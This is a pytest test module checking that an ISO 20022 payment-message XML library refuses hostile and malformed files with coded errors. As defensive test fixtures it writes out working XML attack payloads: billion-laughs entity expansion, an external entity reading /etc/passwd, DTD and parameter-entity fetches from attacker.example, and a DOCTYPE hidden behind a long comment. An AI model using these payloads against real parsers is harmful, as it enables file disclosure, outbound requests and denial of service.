"""Hostile and broken files are refused quickly, with a coded error, by every reader."""

from __future__ import annotations

import os
import time

import pytest

import iso20022
from iso20022 import camt054, pain002, xml
from iso20022.errors import XmlInputError
from iso20022.validate import detect_message, validate

PAIN002 = "urn:iso:std:iso:20022:tech:xsd:pain.002.001.03"

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Document xmlns="@NS@"><CstmrPmtStsRpt><GrpHdr><MsgId>&lol9;</MsgId></GrpHdr>
</CstmrPmtStsRpt></Document>
""".replace("@NS@", PAIN002)

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Document xmlns="@NS@"><CstmrPmtStsRpt><GrpHdr><MsgId>&secret;</MsgId></GrpHdr>
</CstmrPmtStsRpt></Document>
""".replace("@NS@", PAIN002)

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "http://attacker.example/evil.dtd">
<Document xmlns="@NS@"/>
""".replace("@NS@", PAIN002)

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.example/x"> %remote;]>
<Document xmlns="@NS@"/>
""".replace("@NS@", PAIN002)

# A DOCTYPE hidden behind a comment longer than the scanned head of the file.
LATE_DOCTYPE = (
    '<?xml version="1.0"?>\n<!--' + "x" * 200_000 + "-->\n" + EXTERNAL_ENTITY.split("\n", 1)[1]
)

READERS = {
    "pain002": lambda p, **kw: list(pain002.read(p, **kw).transactions),
    "camt054": lambda p, **kw: list(camt054.read(p, **kw).returns),
    "validate": lambda p, **kw: validate(p, **kw),
    "detect": lambda p, **kw: detect_message(p, **kw),
    "bank_answer": lambda p, **kw: iso20022.read_bank_answer(p, **kw),
}


def refused(path, reader, **kw) -> XmlInputError:
    started = time.perf_counter()
    with pytest.raises(XmlInputError) as err:
        READERS[reader](path, **kw)
    assert time.perf_counter() - started < 1.0, "a hostile file must be refused quickly"
    assert err.value.exit_status == 2
    return err.value


@pytest.mark.parametrize("reader", READERS)
@pytest.mark.parametrize(
    "content",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, LATE_DOCTYPE],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "late-doctype"],
)
def test_dtds_and_entities_are_forbidden(tmp_path, reader, content):
    path = tmp_path / "evil.xml"
    path.write_text(content)
    error = refused(path, reader)
    assert error.code == "XML_FORBIDDEN"
    assert "root:" not in error.message  # nothing of /etc/passwd leaks into messages


@pytest.mark.parametrize("reader", READERS)
def test_forbidden_in_utf16_too(tmp_path, reader):
    path = tmp_path / "evil16.xml"
    path.write_bytes(
        EXTERNAL_ENTITY.replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")
    )
    assert refused(path, reader).code == "XML_FORBIDDEN"


@pytest.mark.parametrize("reader", READERS)
def test_too_large_for_the_configured_limit(tmp_path, reader):
    path = tmp_path / "big.xml"
    path.write_text(f'<Document xmlns="{PAIN002}">' + " " * 10_000 + "</Document>")
    assert refused(path, reader, max_bytes=1_000).code == "XML_TOO_LARGE"


def test_limit_is_enforced_while_reading_too(tmp_path, monkeypatch):
    """A file that grows after its size was checked is still cut off."""
    path = tmp_path / "grows.xml"
    path.write_text(f'<Document xmlns="{PAIN002}">' + " " * 10_000 + "</Document>")
    real_stat, real_fstat = os.stat, os.fstat

    def small(result: os.stat_result) -> os.stat_result:
        fields = list(result[:10])
        fields[6] = 10  # st_size: the file claims to be 10 bytes
        return os.stat_result(fields)

    monkeypatch.setattr(xml.os, "stat", lambda p, **kw: small(real_stat(p, **kw)))
    monkeypatch.setattr(xml.os, "fstat", lambda fd: small(real_fstat(fd)))
    with pytest.raises(XmlInputError) as err:
        list(xml.iterparse(path, max_bytes=1_000))
    assert err.value.code == "XML_TOO_LARGE"


NAMESPACE_FOR = {
    "pain002": PAIN002,
    "validate": PAIN002,
    "detect": PAIN002,
    "bank_answer": PAIN002,
    "camt054": "urn:iso:std:iso:20022:tech:xsd:camt.054.001.08",
}


@pytest.mark.parametrize("reader", READERS)
@pytest.mark.parametrize(
    "content, line, after_root",
    [
        ('<?xml version="1.0"?>\n<Document xmlns="{ns}">\n<CstmrPmtStsRpt>\n<GrpHdr>', 4, True),
        ('<Document xmlns="{ns}">\n<a>&undefined;</a></Document>', 2, True),
        ('<Document xmlns="{ns}">\n<a></b></Document>', 2, True),
        ("this is not XML at all\n", 1, False),
        ("", None, False),
        ("\x00\x01\x02binary", 1, False),
    ],
    ids=["truncated", "undefined-entity", "mismatched-tags", "not-xml", "empty", "binary"],
)
def test_malformed_files_report_the_line(tmp_path, reader, content, line, after_root):
    path = tmp_path / "broken.xml"
    path.write_text(content.replace("{ns}", NAMESPACE_FOR[reader]))
    if reader == "detect" and after_root:  # detection reads only up to the root element
        assert detect_message(path) == "pain.002.001.03"
        return
    error = refused(path, reader)
    assert error.code == "XML_MALFORMED"
    if line:
        assert error.line == line and f"line {line}" in error.message


@pytest.mark.parametrize("reader", READERS)
@pytest.mark.parametrize(
    "content",
    [
        "<Document><CstmrPmtStsRpt/></Document>",
        '<Document xmlns="urn:example:not-iso"/>',
        f'<Other xmlns="{PAIN002}"/>',
    ],
    ids=["no-namespace", "foreign-namespace", "wrong-root"],
)
def test_not_an_iso20022_message(tmp_path, reader, content):
    path = tmp_path / "other.xml"
    path.write_text(content)
    assert refused(path, reader).code == "XML_UNKNOWN_MESSAGE"


def test_wrong_iso_message_for_a_reader(tmp_path):
    path = tmp_path / "pain001.xml"
    path.write_text('<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.03"/>')
    assert refused(path, "pain002").code == "XML_WRONG_MESSAGE"
    assert refused(path, "camt054").code == "XML_WRONG_MESSAGE"
    assert refused(path, "bank_answer").code == "XML_WRONG_MESSAGE"


@pytest.mark.parametrize("reader", READERS)
def test_unreadable_paths(tmp_path, reader):
    assert refused(tmp_path / "missing.xml", reader).code == "XML_UNREADABLE"
    assert refused(tmp_path, reader).code == "FILE_UNUSABLE"  # a directory
